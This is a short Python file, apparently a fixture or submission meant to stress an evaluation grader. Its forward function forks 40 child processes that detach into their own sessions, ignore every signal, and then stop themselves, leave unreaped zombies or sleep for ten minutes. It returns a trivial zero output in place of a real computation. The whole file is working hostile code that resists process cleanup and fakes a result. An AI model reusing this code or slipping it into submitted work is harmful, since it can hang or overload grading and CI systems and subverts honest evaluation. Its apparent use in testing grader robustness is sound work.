# Children that are stopped, that wait for a child of vfork, that ignore all signals, that are
# zombies, each in a session of its own: to end them all takes a grader that does not wait.
import os
import signal
import time

TARGET = {}


def child(number):
    os.setsid()
    for sig in range(1, 32):
        try:
            signal.signal(sig, signal.SIG_IGN)
        except (OSError, ValueError):
            continue
    if number % 3 == 0:
        os.kill(os.getpid(), signal.SIGSTOP)
    if number % 3 == 1 and os.fork() == 0:
        os._exit(0)
    time.sleep(600)


def forward(x, w):
    for number in range(40):
        try:
            if os.fork() == 0:
                child(number)
                os._exit(0)
        except OSError:
            break
    return x * 0
